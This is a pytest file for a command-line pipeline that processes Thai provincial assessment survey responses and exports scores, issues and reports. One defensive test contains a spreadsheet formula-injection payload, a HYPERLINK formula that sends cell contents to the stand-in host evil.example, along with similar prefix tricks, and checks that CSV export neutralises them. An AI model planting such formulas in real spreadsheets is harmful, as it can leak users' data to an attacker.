"""The CLI as an officer and cron run it, end to end on the demo province."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from pipeline.cli import COMMANDS, build_parser, main
from tests.conftest import write_settings


def run(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "pipeline.cli", *args], capture_output=True, text=True, timeout=300
    )


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from tests.conftest import write_settings

    folder = tmp_path_factory.mktemp("demo")
    cfg = write_settings(folder)
    out = run("demo", "--config", str(cfg))
    assert out.returncode == 0, out.stderr
    assert "summary workbook:" in out.stdout
    return cfg


def test_demo_publishes_every_tab(demo: Path) -> None:
    wb = load_workbook(demo.parent / "data" / "demo-summary.xlsx")
    for title in ("คะแนนรายตำบล", "สรุปรายอำเภอ", "รายการที่ต้องตรวจสอบ", "บันทึกการทำงาน"):
        assert title in wb.sheetnames
        assert wb[title].freeze_panes == "A2"
    scores = wb["คะแนนรายตำบล"]
    assert scores["A1"].value == "รหัสอำเภอ"
    assert scores.max_row > 100  # most of 68 tambons, both rounds


def test_export_scores_csv(demo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "scores", "--format", "csv", "--config", str(demo)]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    for key in ("tambon_code", "tambon", "district_code", "district", "round", "total_score", "level"):
        assert key in rows[0]
    assert {r["round"] for r in rows} == {"1", "2"}
    for r in rows:
        total, level = int(r["total_score"]), int(r["level"])
        assert 23 <= total <= 69
        assert level == (3 if total >= 56 else 2 if total >= 42 else 1)
        assert len(r["tambon_code"]) == 6 and r["tambon_code"].startswith(r["district_code"])


def test_export_issues_json(demo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "issues", "--format", "json", "--config", str(demo)]) == 0
    issues = json.loads(capsys.readouterr().out)
    for key in ("source", "row", "tambon_code", "severity", "field", "message"):
        assert key in issues[0]
    assert {i["severity"] for i in issues} == {"error", "warning"}
    codes = {i["code"] for i in issues}
    # the demo's planted mistakes are all found
    for code in (
        "percent_out_of_range",
        "missing_answer",
        "unparseable_answer",
        "negative_count",
        "unknown_tambon",
        "outside_province",
        "outside_district",
        "ambiguous_band",
        "near_match",
        "bad_round",
        "superseded",
        "late",
    ):
        assert code in codes, code
    formula = [i for i in issues if i["value"].startswith("=HYPERLINK")]
    assert formula and formula[0]["code"] == "unknown_tambon"


def test_second_sync_with_unchanged_inputs_rewrites_nothing(demo: Path) -> None:
    out_file = demo.parent / "data" / "demo-summary.xlsx"
    before = out_file.stat().st_mtime_ns
    out = run("sync", "--config", str(demo), "--today", "2024-07-02", "--json")
    assert out.returncode == 0, out.stderr
    assert json.loads(out.stdout)["status"] == "unchanged"
    assert out_file.stat().st_mtime_ns == before


def test_dry_run_writes_nothing(demo: Path) -> None:
    out = run("sync", "--config", str(demo), "--dry-run")
    assert out.returncode == 0, out.stderr
    assert "would publish" in out.stdout or "no change" in out.stdout
    # Every row of every demo form is in a category: rows read = counted + rejected + superseded (+ named).
    lines = [ln for ln in out.stdout.splitlines() if " read = " in ln]
    assert len(lines) == 7 and not any("NO CATEGORY" in ln for ln in lines)
    for line in lines:
        read, parts = line.split(":", 1)[1].split(" read = ")
        assert int(read) == sum(int(p.split()[0]) for p in parts.split(" + ")), line


def test_bad_config_is_a_message_not_a_traceback(tmp_path: Path) -> None:
    bad = tmp_path / "p.yaml"
    bad.write_text("province: ไม่มี\n", encoding="utf-8")
    out = run("sync", "--config", str(bad))
    assert out.returncode == 2
    assert "Traceback" not in out.stderr
    assert str(bad) in out.stderr and "fiscal_year: missing" in out.stderr


def test_export_before_any_sync(tmp_path: Path) -> None:
    from tests.conftest import write_settings

    out = run("export", "scores", "--config", str(write_settings(tmp_path)))
    assert out.returncode == 2
    assert "run 'pipeline sync' first" in out.stderr


def test_every_command_has_help_with_an_example() -> None:
    parser = build_parser()
    sub = next(a for a in parser._actions if a.dest == "command")
    names = set(sub.choices)  # type: ignore[union-attr]
    assert {"sync", "export", "demo", "check-config"} <= names
    for name, p in sub.choices.items():  # type: ignore[union-attr]
        assert "Example: pipeline" in (p.description or ""), name
    assert len(names) <= len(COMMANDS)


OPTIONS = {
    "sync": ["--config", "--dry-run", "--today", "--json"],
    "export": ["table", "--list", "--format", "--config"],
    "demo": ["--config", "--today"],
    "check-config": ["--config"],
    "columns": ["source", "--config"],
    "forms": ["action"],
    "remind": ["--config", "--dry-run", "--today", "--json"],
    "schedule": ["--config", "--print"],
    "auth": ["action", "--no-browser", "--forms", "--config"],
}


def test_every_command_lists_its_options_in_a_stable_order() -> None:
    parser = build_parser()
    sub = next(a for a in parser._actions if a.dest == "command")
    found = {
        name: [a.option_strings[-1] if a.option_strings else a.dest for a in p._actions[1:]]
        for name, p in sub.choices.items()  # type: ignore[union-attr]
    }
    assert found == OPTIONS
    assert list(found) == [c.replace("_", "-") for c in COMMANDS]


def test_the_demo_and_the_other_commands_read_their_own_settings_by_default() -> None:
    parser = build_parser()
    assert parser.parse_args(["demo"]).config == Path("config/demo.yaml")
    assert parser.parse_args(["demo"]).today == "2024-07-01"
    assert parser.parse_args(["sync"]).config == Path("config/pipeline.yaml")
    assert parser.parse_args(["forms", "check", "kpi32"]).config == Path("config/pipeline.yaml")
    assert parser.parse_args(["sync"]).today is None


def test_check_config(settings_file: Path) -> None:
    out = run("check-config", "--config", str(settings_file))
    assert out.returncode == 0, out.stderr
    assert "province พะเยา (56), fiscal year 2567" in out.stdout


def test_export_csv_keeps_formula_text_inert(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from pipeline.models import Column, Table
    from pipeline.settings_loader import load_settings
    from pipeline.state import State

    cfg = write_settings(tmp_path)
    members = Table(
        name="registry_members",
        title="ทะเบียน",
        columns=[Column("name", "ชื่อ", 20, "user"), Column("change", "เปลี่ยนแปลง", 8, "int")],
        rows=[
            ['=HYPERLINK("http://evil.example/?x="&A1,"คลิก")', -5],
            ["+66 81 234 5678", 3],
            ["-ไม่มี-", 0],
            ["@SUM(A1:A2)", 1],
            ["\tแท็บ", 2],
            ["\rCR", 2],
            ["นายสมชาย ใจดี", 7],
        ],
    )
    with State(load_settings(cfg).state_db) as state:
        state.commit_sync(datetime(2024, 7, 1, 12), {}, [members], [])
    assert main(["export", "registry_members", "--format", "csv", "--config", str(cfg)]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert rows[1:] == [
        ['\'=HYPERLINK("http://evil.example/?x="&A1,"คลิก")', "-5"],
        ["'+66 81 234 5678", "3"],
        ["'-ไม่มี-", "0"],
        ["'@SUM(A1:A2)", "1"],
        ["'\tแท็บ", "2"],
        ["'\rCR", "2"],
        ["นายสมชาย ใจดี", "7"],
    ]
    assert main(["export", "registry_members", "--format", "json", "--config", str(cfg)]) == 0
    assert json.loads(capsys.readouterr().out)[0]["name"].startswith("=HYPERLINK")  # JSON is data: as it is


@pytest.fixture
def synced(tmp_path: Path) -> Path:
    """Two forms' demo responses (one of which makes the province's report), synced once."""
    from pipeline.demo import write_demo
    from pipeline.settings_loader import load_settings

    cfg = write_settings(
        tmp_path,
        sources={
            "tambon_assessment": {
                "schema": "tambon_assessment",
                "spreadsheet": "resp",
                "tab": "การตอบแบบฟอร์ม 1",
            },
            "progress_assessment": {
                "schema": "progress_assessment",
                "spreadsheet": "progress",
                "tab": "การตอบแบบฟอร์ม 1",
            },
        },
    )
    write_demo(load_settings(cfg))
    assert main(["sync", "--config", str(cfg), "--today", "2024-07-01"]) == 0
    return cfg


def test_a_page_corrupted_state_is_exit_5_with_the_fix_for_sync_and_remind(synced: Path) -> None:
    state = synced.parent / "state" / "pipeline.sqlite"
    data = bytearray(state.read_bytes())
    page = int.from_bytes(data[16:18], "big")
    data[page:] = bytes(len(data) - page)  # every page but the first (the schema) zeroed
    state.write_bytes(bytes(data))
    for command in (["sync"], ["remind", "--today", "2024-06-18"]):
        out = run(*command, "--config", str(synced))
        assert out.returncode == 5, out.stderr
        assert "Traceback" not in out.stderr
        assert "damaged" in out.stderr and "fix:" in out.stderr and "ฐานข้อมูลสถานะเสียหาย" in out.stderr


@pytest.mark.parametrize(
    ("where", "code", "says"), [("data", 30, "cannot write to"), ("reports", 28, "is full")]
)
def test_a_read_only_or_full_output_folder_is_exit_7_with_the_fix(
    synced: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    where: str,
    code: int,
    says: str,
) -> None:
    import os

    from pipeline import files

    real = os.replace

    def refuse(src: str | Path, dst: str | Path) -> None:
        if (Path(dst).parent.name == "reports") == (where == "reports"):
            raise OSError(code, os.strerror(code), str(dst))
        real(src, dst)

    summary = synced.parent / "data" / "demo-summary.xlsx"
    summary.unlink()  # so the next sync writes the workbook and the reports
    for report in (synced.parent / "data" / "reports").iterdir():
        report.unlink()
    capsys.readouterr()
    monkeypatch.setattr(files, "_replace", refuse)
    assert main(["sync", "--config", str(synced), "--today", "2024-07-01"]) == 7
    err = capsys.readouterr().err
    assert says in err and "fix:" in err and ("ดิสก์" in err or "เขียนไฟล์" in err)
    assert not list((synced.parent / "data").rglob(".*.tmp"))
    monkeypatch.undo()
    assert (
        main(["sync", "--config", str(synced), "--today", "2024-07-01"]) == 0
    )  # fixed: the next run catches up
    assert summary.exists()


def test_a_deleted_report_is_rebuilt_though_nothing_changed(
    synced: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    reports = {p.name: p for p in (synced.parent / "data" / "reports").iterdir()}
    assert {"progress-phayao-2567.pdf", "assessment-phayao-2567-1.pdf"} <= set(reports)
    assert main(["sync", "--config", str(synced), "--today", "2024-07-01"]) == 0
    assert "unchanged" in capsys.readouterr().out
    reports["progress-phayao-2567.pdf"].unlink()
    assert main(["sync", "--config", str(synced), "--today", "2024-07-01"]) == 0
    assert "published" in capsys.readouterr().out and reports["progress-phayao-2567.pdf"].exists()
